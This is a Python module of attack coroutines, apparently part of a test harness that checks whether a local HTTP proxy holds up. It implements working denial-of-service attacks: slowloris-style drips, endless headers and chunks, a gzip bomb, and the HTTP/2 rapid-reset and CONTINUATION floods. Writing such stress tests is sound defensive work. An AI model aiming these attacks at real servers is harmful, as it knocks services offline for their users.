"""Hostile clients: each a coroutine that attacks a port for a while. They look away from what the
proxy answers; what counts is what the attack does to others."""

import asyncio
import contextlib
import functools
import zlib
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from dataclasses import dataclass
from typing import Final

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.exceptions import ProtocolError

HEAD: Final = b"POST /hook HTTP/1.1\r\nHost: h\r\n"


@dataclass(frozen=True)
class Force:
    """How hard an attack is."""

    port: int
    seconds: float
    connections: int


type Attack = Callable[[Force], Awaitable[None]]


async def _connect(port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await asyncio.open_connection("127.0.0.1", port)


async def _each(force: Force, one: Callable[[int], Awaitable[None]]) -> None:
    """Many attackers at once, until the time is up; one that is thrown out comes again."""

    async def again() -> None:
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError, ProtocolError):
                await one(force.port)
            await asyncio.sleep(0.05)

    tasks = [asyncio.create_task(again()) for _ in range(force.connections)]
    await asyncio.sleep(force.seconds)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


@contextlib.asynccontextmanager
async def _attacker(port: int) -> AsyncIterator[asyncio.StreamWriter]:
    _, writer = await _connect(port)
    try:
        yield writer
    finally:
        writer.transport.abort()


async def _send(writer: asyncio.StreamWriter, data: bytes) -> None:
    """Send; raises when the proxy has closed."""
    if writer.transport.is_closing():
        raise ConnectionResetError
    writer.write(data)
    await writer.drain()
    await asyncio.sleep(0)  # drain does not let others run


def _dripping(first: bytes) -> Attack:
    async def one(port: int) -> None:
        async with _attacker(port) as writer:
            await _send(writer, first)
            while True:
                await asyncio.sleep(0.3)
                await _send(writer, b"x")

    return lambda force: _each(force, one)


def _pouring(first: bytes, more: bytes) -> Attack:
    """A beginning, then the same block as fast as it is taken."""

    async def one(port: int) -> None:
        async with _attacker(port) as writer:
            await _send(writer, first)
            while True:
                await _send(writer, more)

    return lambda force: _each(force, one)


async def silent_connections(force: Force) -> None:
    """Connections that never say a word."""
    opened = []
    for _ in range(force.connections * 20):
        with contextlib.suppress(OSError):
            opened.append(await _connect(force.port))
    await asyncio.sleep(force.seconds)
    for _, writer in opened:
        writer.transport.abort()


def _zeros(megabytes: int) -> Iterator[bytes]:
    """So much of zeros, as gzip."""
    pack = zlib.compressobj(9, wbits=31)
    block = bytes(1 << 20)
    for _ in range(megabytes):
        yield pack.compress(block)
    yield pack.flush()


async def bomb(force: Force) -> None:
    """1 GB of zeros in 1 MB of gzip, as the body of a webhook."""
    body = b"".join(_zeros(1024))
    fields = b"Content-Type: application/json\r\nContent-Encoding: gzip\r\n"

    async def one(port: int) -> None:
        reader, writer = await _connect(port)
        writer.write(HEAD + fields + b"Content-Length: %d\r\n\r\n%b" % (len(body), body))
        await reader.readuntil(b"\r\n\r\n")
        writer.transport.abort()

    await _each(force, one)


async def unread_pages(force: Force) -> None:
    """Requests that the proxy answers itself, as fast as it takes them; no answer is read."""
    block = b"GET /none HTTP/1.1\r\nHost: h\r\n\r\n" * 1000

    async def one(port: int) -> None:
        async with _attacker(port) as writer:
            writer.transport.pause_reading()
            while True:
                await _send(writer, block)

    await _each(force, one)


def _http2() -> H2Connection:
    made = H2Connection(H2Configuration(client_side=True, header_encoding=None))
    made.initiate_connection()
    return made


_FIELDS: Final = [
    (":method", "POST"),
    (":scheme", "http"),
    (":authority", "h"),
    (":path", "/hook"),
]


@functools.cache
def _resets(count: int) -> list[tuple[bytes, bytes]]:
    """Requests with their resets, made beforehand: an attacker is not to be slower than we are.
    Behind `_http2().data_to_send()`."""
    h2 = _http2()
    h2.data_to_send()
    made = []
    for stream in range(1, 2 * count, 2):
        h2.send_headers(stream, _FIELDS)
        request = h2.data_to_send()
        h2.reset_stream(stream, 8)
        made.append((request, h2.data_to_send()))
    return made


_AT_ONCE: Final = 50


async def rapid_resets(force: Force) -> None:
    """HTTP/2 streams that are opened and reset at once (CVE-2023-44487)."""
    pairs = _resets(5000)
    bursts = [
        b"".join(request + reset for request, reset in pairs[at : at + _AT_ONCE])
        for at in range(0, len(pairs), _AT_ONCE)
    ]

    async def one(port: int) -> None:
        async with _attacker(port) as writer:
            await _send(writer, _http2().data_to_send())
            for burst in bursts:
                await _send(writer, burst)

    await _each(force, one)


async def resets_on_new_connections(force: Force) -> None:
    """The same; who does it never waits to be thrown out."""
    pairs = _resets(_AT_ONCE)
    block = _http2().data_to_send() + b"".join(request + reset for request, reset in pairs)

    async def one(port: int) -> None:
        async with _attacker(port) as writer:
            await _send(writer, block)

    await _each(force, one)


async def late_resets(force: Force) -> None:
    """Streams that are reset when their requests are on their way to the upstream."""
    pairs = _resets(5000)

    async def one(port: int) -> None:
        async with _attacker(port) as writer:
            await _send(writer, _http2().data_to_send())
            for at in range(0, len(pairs), _AT_ONCE):
                some = pairs[at : at + _AT_ONCE]
                await _send(writer, b"".join(request for request, _ in some))
                await asyncio.sleep(0.02)
                await _send(writer, b"".join(reset for _, reset in some))

    await _each(force, one)


async def unread_pings(force: Force) -> None:
    """HTTP/2 pings; their acknowledgements are not read."""

    async def one(port: int) -> None:
        async with _attacker(port) as writer:
            writer.transport.pause_reading()
            h2 = _http2()
            await _send(writer, h2.data_to_send())
            frame = b"\0\0\x08\x06\0\0\0\0\0" + b"12345678"
            while True:
                await _send(writer, frame * 1000)

    await _each(force, one)


async def continuations(force: Force) -> None:
    """HTTP/2 header blocks without an end (CVE-2024-27316)."""

    async def one(port: int) -> None:
        async with _attacker(port) as writer:
            await _send(writer, _http2().data_to_send())
            await _send(writer, b"\0\0\x01\x01\0\0\0\0\x01\x83")
            while True:
                await _send(
                    writer, b"\0\x40\0\x09\0\0\0\0\x01" + b"\0\x01a\x01b" * 3276 + b"\0\0\0\0"
                )

    await _each(force, one)


async def _nobody(force: Force) -> None:
    await asyncio.sleep(force.seconds)


ATTACKS: Final[dict[str, Attack]] = {
    "none": _nobody,
    "slow heads": _dripping(HEAD + b"X: "),
    "slow bodies": _dripping(HEAD + b"Content-Length: 1000000\r\n\r\n"),
    "slow chunks": _dripping(HEAD + b"Transfer-Encoding: chunked\r\n\r\nfffff\r\n"),
    "silent connections": silent_connections,
    "headers without end": _pouring(HEAD, b"X: y\r\n" * 10_000),
    "a header line without end": _pouring(HEAD + b"X: ", b"y" * 65536),
    "a request line without end": _pouring(b"GET /", b"y" * 65536),
    "chunk extensions without end": _pouring(
        HEAD + b"Transfer-Encoding: chunked\r\n\r\n3;", b"x" * 65536
    ),
    "trailers without end": _pouring(
        HEAD + b"Transfer-Encoding: chunked\r\n\r\n0\r\nX: ", b"x" * 65536
    ),
    "chunks of empty lines": _pouring(
        HEAD + b"Transfer-Encoding: chunked\r\n\r\n", b"10000\r\n" + b"\r\n" * 32768 + b"\r\n"
    ),
    "chunks of one byte": _pouring(
        HEAD + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n" * 10_000
    ),
    "malformed requests": _pouring(b"", b"GET /a b HTTP/1.1\r\n\r\n" * 100),
    "pages that nobody reads": unread_pages,
    "gzip bombs": bomb,
    "HTTP/2: rapid resets": rapid_resets,
    "HTTP/2: rapid resets, each time on a new connection": resets_on_new_connections,
    "HTTP/2: late resets": late_resets,
    "HTTP/2: pings that nobody reads": unread_pings,
    "HTTP/2: continuations": continuations,
}
